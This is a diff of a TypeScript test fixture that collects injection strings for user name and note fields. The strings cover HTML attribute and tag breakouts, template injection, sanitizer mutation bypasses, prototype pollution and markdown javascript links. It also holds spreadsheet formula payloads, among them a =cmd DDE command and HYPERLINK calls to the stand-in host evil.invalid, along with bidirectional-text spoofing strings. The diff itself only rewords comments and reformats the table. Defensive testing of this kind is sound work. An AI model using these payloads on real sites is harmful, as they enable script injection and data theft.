@@ -1,6 +1,6 @@
 /**
- * What people who mean harm write into a name or a note. Each calls `__hit`, or asks another host,
- * if it is ever read as anything but text.
+ * Attack strings that users may write into a name or a note. Each calls `__hit`, or requests
+ * another host, if it is ever interpreted as anything but text.
  */
 const hit = (number: number): string => `__hit(${number})`;
 const elsewhere = '//evil.invalid';
@@ -37,23 +37,58 @@ const markup: readonly ((call: string) => string)[] = [
   (x) => `<div style="position:fixed;inset:0;z-index:9999" onclick=${x}>`, (x) => `<dialog open onclose=${x}>`, (x) => `<a href=javascript:${x} autofocus>x</a>`,
 ];
 
-// Out of an attribute, a comment, a script, a style; through a sanitizer that repairs; templates of all kinds.
-// biome-ignore format: a table reads by the line
+// Breaking out of an attribute, a comment, a script, a style; through a sanitizer that repairs;
+// templates of all kinds. biome-ignore format: a table reads by the line
 const contexts: readonly ((call: string) => string)[] = [
-  (x) => `"><img src=x onerror=${x}>`, (x) => `'><img src=x onerror=${x}>`, (x) => `" autofocus onfocus=${x} x="`, (x) => `' onmouseover=${x} x='`, (x) => `\` onload=${x} \``,
-  (x) => `" style="x:expression(${x})`, (x) => `"/><script>${x}</script>`, (x) => `--><script>${x}</script><!--`, (x) => `--!><img src=x onerror=${x}>`,
-  (x) => `]]><script>${x}</script>`, (x) => `</title><script>${x}</script>`, (x) => `</textarea><script>${x}</script>`, (x) => `</style><script>${x}</script>`,
-  (x) => `</script><script>${x}</script>`, (x) => `</option></select><img src=x onerror=${x}>`, (x) => `</td></tr></table><svg onload=${x}>`, (x) => `';${x};//`, (x) => `";${x};//`,
-  (x) => `\\';${x};//`, (x) => `\${${x}}`, (x) => `{{${x}}}`, (x) => `{{constructor.constructor('${x}')()}}`, (x) => `<%= ${x} %>`, (x) => `#{${x}}`, (x) => `[[\${${x}}]]`,
-  (x) => `{%import os%}${x}`, (x) => `\u2028${x}\u2029`, (x) => `\\u003cimg src=x onerror=${x}\\u003e`, (x) => `&lt;img src=x onerror=${x}&gt;`, (x) => `&#60;img src=x onerror=${x}&#62;`,
-  (x) => `%3Cimg%20src%3Dx%20onerror%3D${x}%3E`, (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-`, (x) => `＜img src=x onerror=${x}＞`, (x) => `<\u0301script>${x}</script>`,
-  (x) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${x}&gt;">`, (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`,
-  (x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`, (x) => `<noembed><img title="</noembed><img src onerror=${x}>"></noembed>`,
-  (x) => `<xmp><p title="</xmp><svg/onload=${x}>">`, (x) => `<listing>&lt;img src onerror=${x}&gt;</listing>`, (x) => `<a id=__proto__ name=${x}><a id=__proto__ name=b>`,
-  (x) => `{"__html":"<img src=x onerror=${x}>"}`, (x) => `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${x}>"}}`, (x) => `[x](javascript:${x})`, (x) => `![x](${elsewhere}/${x})`,
+  (x) => `"><img src=x onerror=${x}>`,
+  (x) => `'><img src=x onerror=${x}>`,
+  (x) => `" autofocus onfocus=${x} x="`,
+  (x) => `' onmouseover=${x} x='`,
+  (x) => `\` onload=${x} \``,
+  (x) => `" style="x:expression(${x})`,
+  (x) => `"/><script>${x}</script>`,
+  (x) => `--><script>${x}</script><!--`,
+  (x) => `--!><img src=x onerror=${x}>`,
+  (x) => `]]><script>${x}</script>`,
+  (x) => `</title><script>${x}</script>`,
+  (x) => `</textarea><script>${x}</script>`,
+  (x) => `</style><script>${x}</script>`,
+  (x) => `</script><script>${x}</script>`,
+  (x) => `</option></select><img src=x onerror=${x}>`,
+  (x) => `</td></tr></table><svg onload=${x}>`,
+  (x) => `';${x};//`,
+  (x) => `";${x};//`,
+  (x) => `\\';${x};//`,
+  (x) => `\${${x}}`,
+  (x) => `{{${x}}}`,
+  (x) => `{{constructor.constructor('${x}')()}}`,
+  (x) => `<%= ${x} %>`,
+  (x) => `#{${x}}`,
+  (x) => `[[\${${x}}]]`,
+  (x) => `{%import os%}${x}`,
+  (x) => `\u2028${x}\u2029`,
+  (x) => `\\u003cimg src=x onerror=${x}\\u003e`,
+  (x) => `&lt;img src=x onerror=${x}&gt;`,
+  (x) => `&#60;img src=x onerror=${x}&#62;`,
+  (x) => `%3Cimg%20src%3Dx%20onerror%3D${x}%3E`,
+  (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-`,
+  (x) => `＜img src=x onerror=${x}＞`,
+  (x) => `<\u0301script>${x}</script>`,
+  (x) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${x}&gt;">`,
+  (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`,
+  (x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`,
+  (x) => `<noembed><img title="</noembed><img src onerror=${x}>"></noembed>`,
+  (x) => `<xmp><p title="</xmp><svg/onload=${x}>">`,
+  (x) => `<listing>&lt;img src onerror=${x}&gt;</listing>`,
+  (x) => `<a id=__proto__ name=${x}><a id=__proto__ name=b>`,
+  (x) => `{"__html":"<img src=x onerror=${x}>"}`,
+  (x) => `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${x}>"}}`,
+  (x) => `[x](javascript:${x})`,
+  (x) => `![x](${elsewhere}/${x})`,
 ];
 
-// A sheet reads these as formulas, a printer's language as commands.
+// Spreadsheet programs read these as formulas, printer languages as commands.
 const sheets: readonly ((call: string) => string)[] = [
   (x) => `=HYPERLINK("${elsewhere}/${x}","x")`,
   (x) => `=cmd|'/C ${x}'!A0`,
@@ -78,9 +113,7 @@ export const scripts: readonly string[] = [
   ...events.slice(0, 12).map((event) => (x: string) => `" on${event}="${x}`),
 ].map((make, number) => make(hit(number)));
 
-/**
- * Marks that turn text around or stand for nothing: what stands beside them must read as before.
- */
+/** Characters that reverse text or are invisible: the text next to them must remain readable. */
 export const spoofs: readonly string[] = [
   '\u202e00052',
   'احمد\u202e25,000',
@@ -99,7 +132,7 @@ export const spoofs: readonly string[] = [
   '\u202a\u202b\u202a\u202b',
 ];
 
-/** All of them, in pieces no longer than a field takes. */
+/** All of them, in pieces that fit into a field. */
 export function pieces(all: readonly string[], longest: number): string[] {
   const made: string[] = [];
   let piece = '';
